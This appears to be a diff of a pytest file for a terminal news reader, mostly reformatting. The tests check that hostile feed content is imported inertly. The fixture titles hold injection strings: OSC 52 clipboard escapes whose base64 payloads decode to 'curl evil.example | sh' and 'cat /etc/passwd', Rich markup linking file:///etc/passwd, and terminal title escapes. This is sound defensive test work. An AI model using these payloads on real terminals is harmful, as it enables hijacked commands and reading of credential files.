@@ -30,7 +30,6 @@ from pathlib import Path
 import pytest
 
 from newsreader.store import textpack
-
 from tests.support.paths import FIXTURES
 
 HOSTILE = FIXTURES / "hostile"
@@ -59,11 +58,21 @@ FAILURES = {
 #: the windows-1252 punctuation it almost always is.
 TITLES = {
     # XML attacks: the document is read, the attack does nothing
-    "Laughs end", "Ferry crews return after the storm", "Quadratic", "Secret here",
-    "Crane repairs finish early", "Lock gates inspected", "Deep", "Attributes", "Never closed",
+    "Laughs end",
+    "Ferry crews return after the storm",
+    "Quadratic",
+    "Secret here",
+    "Crane repairs finish early",
+    "Lock gates inspected",
+    "Deep",
+    "Attributes",
+    "Never closed",
     # JSON Feed: bad fields and items dropped, the rest kept
-    "Pier lights come back on", "Big numbers", "https://pier-post.example/nan",
-    "Half a pair \ufffd here \ufffd", "Clipboard ]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA== grab",
+    "Pier lights come back on",
+    "Big numbers",
+    "https://pier-post.example/nan",
+    "Half a pair \ufffd here \ufffd",
+    "Clipboard ]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA== grab",
     # text and HTML
     "Flood gates close for the first time this winter",
     "Storm barrier closes for the first time this winter",
@@ -71,26 +80,41 @@ TITLES = {
     "Le caf\u00e9 du port rouvre ses portes",
     "[@click=app.quit]Quit[/] [link=file:///etc/passwd]x[/link] Tide tables [/]",
     # hostile headlines in a feed
-    "[/]", "[@click=app.quit]Read more[/]", "[link=file:///etc/passwd]x[/link]",
-    "]52;c;Y2F0IC9ldGMvcGFzc3dk clipboard", "]52;c;Y2F0IC9ldGMvcGFzc3dk raw clipboard",
-    "C1 \u203a31m red and override", "Script link",
+    "[/]",
+    "[@click=app.quit]Read more[/]",
+    "[link=file:///etc/passwd]x[/link]",
+    "]52;c;Y2F0IC9ldGMvcGFzc3dk clipboard",
+    "]52;c;Y2F0IC9ldGMvcGFzc3dk raw clipboard",
+    "C1 \u203a31m red and override",
+    "Script link",
 }
 
 #: Source names that are attacks of their own.
-HOSTILE_SOURCES = {"[bold red]Tideline[/] ]0;pwnedWire", "[bold red]Harbour[/] Gazette", "[bold red]Evil[/] ]0;titlePress"}
+HOSTILE_SOURCES = {
+    "[bold red]Tideline[/] ]0;pwnedWire",
+    "[bold red]Harbour[/] Gazette",
+    "[bold red]Evil[/] ]0;titlePress",
+}
 
 # What the terminal must never receive, and what clean() removes.
-_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029\ufeff\ud800-\udfff]")
+_CONTROL = re.compile(
+    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029\ufeff\ud800-\udfff]"
+)
 
 
 def _generate_large(folder: Path) -> None:
     item = "<item><title>Bulk story {n}</title><link>https://bulk.example/{n}</link><description>Bulk {n}.</description></item>"
     (folder / "generated_100k_items.rss").write_bytes(
-        ('<?xml version="1.0"?><rss version="2.0"><channel><title>Bulk Wire</title>'
-         + "".join(item.format(n=n) for n in range(BULK_ITEMS)) + "</channel></rss>").encode()
+        (
+            '<?xml version="1.0"?><rss version="2.0"><channel><title>Bulk Wire</title>'
+            + "".join(item.format(n=n) for n in range(BULK_ITEMS))
+            + "</channel></rss>"
+        ).encode()
     )
     with open(folder / "generated_50mb_single_line.xml", "wb") as fh:
-        fh.write(b'<?xml version="1.0"?><rss version="2.0"><channel><title>Huge</title><item><title>Huge</title><description>')
+        fh.write(
+            b'<?xml version="1.0"?><rss version="2.0"><channel><title>Huge</title><item><title>Huge</title><description>'
+        )
         for _ in range(50):
             fh.write(b"x" * (1024 * 1024))
         fh.write(b"</description></item></channel></rss>")
@@ -110,7 +134,11 @@ def imported(tmp_path_factory):
     env.update(NEWSREADER_HOME=str(home), PYTHONPATH=str(REPO))
     result = subprocess.run(
         [sys.executable, "-m", "newsreader", "import", str(docs)],
-        env=env, capture_output=True, text=True, timeout=240, stdin=subprocess.DEVNULL,
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=240,
+        stdin=subprocess.DEVNULL,
     )
     return home, docs, result
 
@@ -129,7 +157,7 @@ def test_every_failure_is_one_line_naming_its_file(imported):
 
 
 def test_the_good_documents_are_imported(imported):
-    home, docs, result = imported
+    home, _docs, result = imported
     conn = _cache(home)
     titles = [r["title"] for r in conn.execute("SELECT title FROM articles")]
     bulk = [t for t in titles if t.startswith("Bulk story ")]
@@ -141,7 +169,7 @@ def test_the_good_documents_are_imported(imported):
     assert len(long_line) == 1 and len(long_line[0]) <= 201
     assert result.stdout == f"{len(titles)} new, 0 updated, {len(FAILURES)} failed\n"
     sources = {r["name"] for r in conn.execute("SELECT name FROM sources")}
-    assert HOSTILE_SOURCES <= sources
+    assert sources >= HOSTILE_SOURCES
     assert {"Tideline Wire", "Pier Post", "Quay Notes", "Include Weekly", "Bulk Wire", "Valley Courier"} <= sources
     # Nothing the OPML files named was subscribed to.
     assert not (home / "config" / "config.toml").exists()
@@ -151,7 +179,9 @@ def test_no_control_character_anywhere_in_the_cache(imported):
     home, _docs, _result = imported
     conn = _cache(home)
     checked = 0
-    for (table,) in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table' AND sql NOT LIKE 'CREATE VIRTUAL%'"):
+    for (table,) in conn.execute(
+        "SELECT name FROM sqlite_master WHERE type = 'table' AND sql NOT LIKE 'CREATE VIRTUAL%'"
+    ):
         columns = [r["name"] for r in conn.execute(f"PRAGMA table_info('{table}')")]
         for column in columns:
             for (value,) in conn.execute(f'SELECT "{column}" FROM "{table}" WHERE typeof("{column}") = \'text\''):
@@ -167,7 +197,9 @@ def test_no_entity_was_expanded_and_no_local_file_was_read(imported):
     conn = _cache(home)
     text = "\n".join(
         " ".join(str(v) for v in row)
-        for row in conn.execute("SELECT title, body, summary, url, extras FROM articles WHERE url IS NULL OR url NOT LIKE 'https://bulk.example/%'")
+        for row in conn.execute(
+            "SELECT title, body, summary, url, extras FROM articles WHERE url IS NULL OR url NOT LIKE 'https://bulk.example/%'"
+        )
     )
     passwd = Path("/etc/passwd").read_text().splitlines()[0]
     assert passwd not in text and "root:x:0" not in text
@@ -205,10 +237,9 @@ async def test_the_app_draws_the_imported_cache_literally(imported):
     """The screen a person sees: markup as text, no escape but colours."""
     from rich.console import Console
 
-    from newsreader.tui.app import NewsReaderApp
     from newsreader.core.paths import Paths
+    from newsreader.tui.app import NewsReaderApp
     from newsreader.tui.services import Services
-
     from tests.support.app import settle
 
     home, _docs, _result = imported
@@ -221,8 +252,16 @@ async def test_the_app_draws_the_imported_cache_literally(imported):
     def terminal_output() -> tuple[str, str]:
         """What the terminal would receive for the whole screen, and its text."""
         width, height = app.size
-        console = Console(width=width, height=height, file=io.StringIO(), force_terminal=True,
-                          color_system="truecolor", record=True, legacy_windows=False, safe_box=False)
+        console = Console(
+            width=width,
+            height=height,
+            file=io.StringIO(),
+            force_terminal=True,
+            color_system="truecolor",
+            record=True,
+            legacy_windows=False,
+            safe_box=False,
+        )
         console.print(app.screen._compositor.render_update(full=True))
         return console.file.getvalue(), console.export_text()
 
@@ -231,14 +270,17 @@ async def test_the_app_draws_the_imported_cache_literally(imported):
         # other escape (OSC 52 clipboard, OSC 8 links, OSC 0 title, DCS) or a
         # C1 control, BEL or bidi override came from a document.
         without_csi = re.sub(r"\x1b\[[0-9;:?]*[A-Za-z]", "", raw)
-        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", without_csi.replace("\r", "")), \
-            repr(re.findall(".{0,20}[\x00-\x09\x0b-\x1f\x7f-\x9f].{0,20}", without_csi)[:3])
+        assert not re.search(
+            "[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", without_csi.replace("\r", "")
+        ), repr(re.findall(".{0,20}[\x00-\x09\x0b-\x1f\x7f-\x9f].{0,20}", without_csi)[:3])
 
     async with app.run_test(size=(160, 50)) as pilot:
         await settle(pilot)
         screen = app.screen
         sources = screen.query_one("#sources")
-        hostile_feed = next(row.id for row in services.cache.sources() if row.name == "[bold red]Tideline[/] ]0;pwnedWire")
+        hostile_feed = next(
+            row.id for row in services.cache.sources() if row.name == "[bold red]Tideline[/] ]0;pwnedWire"
+        )
         sources.highlighted = sources.get_option_index(f"src:{hostile_feed}")
         await settle(pilot)
         shown = [r.title for r in screen.headline_rows]
@@ -246,8 +288,13 @@ async def test_the_app_draws_the_imported_cache_literally(imported):
         raw, text = terminal_output()
         assert_clean(raw)
         # (The narrow panes cut long names with an ellipsis.)
-        for literal in ("● [/] ", "[@click=app.quit]Read more[", "[link=file:///etc/passwd]x[",
-                        "]52;c;Y2F0IC9ldGMvcGFzc3dk", "[bold red]Tideline[/] ]0;pwne"):
+        for literal in (
+            "● [/] ",
+            "[@click=app.quit]Read more[",
+            "[link=file:///etc/passwd]x[",
+            "]52;c;Y2F0IC9ldGMvcGFzc3dk",
+            "[bold red]Tideline[/] ]0;pwne",
+        ):
             assert literal in text
         # Open every hostile story, and click one headline: nothing runs.
         headlines = screen.query_one("#headlines")
